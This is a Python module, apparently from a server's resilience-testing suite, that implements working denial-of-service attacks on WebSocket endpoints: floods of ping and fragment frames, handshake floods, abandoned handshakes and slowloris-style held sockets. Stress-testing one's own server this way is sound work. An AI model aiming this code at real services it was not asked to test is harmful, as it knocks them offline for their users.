"""Attacks on sockets and WebSockets: floods of frames, handshakes, sockets that stay open."""

from __future__ import annotations

import asyncio
from asyncio import StreamReader, StreamWriter
from contextlib import suppress

from server.campaigns.attack.raw import GONE, Tally, Target, open_live, text_frame

CHUNK = 65_536
EMPTY_PING = b"\x89\x80" + bytes(4)
LARGE_PING = b"\x89\xfd" + bytes(4 + 125)
FIRST_FRAGMENT = b"\x01\x80" + bytes(4)
EMPTY_FRAGMENT = b"\x00\x80" + bytes(4)
PING_MESSAGE = text_frame({"type": "ping", "key": "k"})
PAUSE_SECONDS = 0.02
"""A worker that cannot connect tries again after this time."""
BYTE_SECONDS = 0.5
KEPT_SECONDS = 1.0
"""A socket that stays open for so long counts as one that got through."""


async def flood(
    target: Target, tally: Tally, frame: bytes, first: bytes = b"", *, reads: bool = True
) -> None:
    """Send a frame again and again, on one connection after the other."""
    chunk = frame * (CHUNK // len(frame))
    while target.left > 0:
        streams = await open_live(target)
        if streams is None:
            tally.refused += 1
            await asyncio.sleep(PAUSE_SECONDS)
            continue
        reader, writer = streams
        reading = asyncio.create_task(_read(reader)) if reads else None
        sent = -writer.transport.get_write_buffer_size()
        with suppress(*GONE):
            writer.write(first)
            async with asyncio.timeout(max(0.0, target.left)):
                while not writer.transport.is_closing():
                    writer.write(chunk)
                    sent += len(chunk)
                    await writer.drain()
        tally.refused += target.left > 0
        tally.through += sent - writer.transport.get_write_buffer_size()
        writer.transport.abort()
        if reading is not None:
            reading.cancel()


async def _read(reader: StreamReader) -> None:
    with suppress(*GONE):
        while await reader.read(CHUNK):
            pass


async def handshakes(target: Target, tally: Tally) -> None:
    while target.left > 0:
        streams = await open_live(target)
        tally.count(streams is not None)
        if streams is not None:
            streams[1].transport.abort()


async def abandoned_handshakes(target: Target, tally: Tally) -> None:
    """Leave before the response, so that the server works for nobody."""
    while target.left > 0:
        try:
            _, writer = await target.open()
        except OSError:
            tally.refused += 1
            continue
        writer.write(target.upgrade)
        tally.through += 1
        writer.close()


async def hold(target: Target, tally: Tally, slowly: bytes) -> None:
    """Keep a socket open and send a byte from time to time."""
    while target.left > 0:
        try:
            reader, writer = await target.open()
        except OSError:
            tally.refused += 1
            await asyncio.sleep(PAUSE_SECONDS)
            continue
        writing = asyncio.create_task(_write_slowly(writer, slowly))
        began = target.left
        with suppress(*GONE):
            async with asyncio.timeout(max(0.0, target.left)):
                await reader.read()
        tally.through += began - target.left > KEPT_SECONDS
        tally.refused += target.left > 0
        writing.cancel()
        writer.transport.abort()
        await asyncio.sleep(PAUSE_SECONDS)


async def _write_slowly(writer: StreamWriter, text: bytes) -> None:
    for number in range(len(text)):
        writer.write(text[number : number + 1])
        await asyncio.sleep(BYTE_SECONDS)
